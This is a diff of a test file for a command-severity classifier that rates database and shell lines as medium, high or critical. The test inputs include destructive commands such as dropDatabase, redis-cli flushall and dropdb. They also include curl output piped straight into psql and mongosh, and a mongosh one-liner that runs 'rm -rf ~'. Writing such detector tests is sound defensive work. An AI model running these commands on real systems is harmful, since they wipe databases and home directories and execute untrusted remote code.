@@ -39,6 +39,8 @@ test.each([
   "curl x.example | psql",
   "cqlsh -e 'drop keyspace x'",
   "mongosh --eval 'db.dropDatabase()'",
+  "echo 'db.dropDatabase()' | mongosh",
+  "mongosh <<< 'db.users.deleteMany({})'",
   "redis-cli flushall",
   "dropdb app",
   "psql -c \"copy t to '/tmp/x'\"",
@@ -47,10 +49,22 @@ test.each([
   expect(severity(line)).toBe("high");
 });
 
-test.each(["psql -c 'insert into t values (1)'", "psql -f a.sql", "createdb app", "sqlite3 a.db < x.sql"])(
-  "what only changes data is medium: %s",
+test.each([
+  "psql -c 'insert into t values (1)'",
+  "psql -f a.sql",
+  "createdb app",
+  "sqlite3 a.db < x.sql",
+  "mongosh localhost/app a.js",
+  "mongosh --file a.js",
+  "mongosh < a.js",
+])("what only changes data is medium: %s", (line) => {
+  expect(severity(line)).toBe("medium");
+});
+
+test.each(["curl x.example | mongosh", 'mongosh <<< \'require("child_process").execSync("rm -rf ~")\''])(
+  "the shell of a database that is one of JavaScript runs what it is given: %s",
   (line) => {
-    expect(severity(line)).toBe("medium");
+    expect(severity(line)).toBe("critical");
   },
 );
 
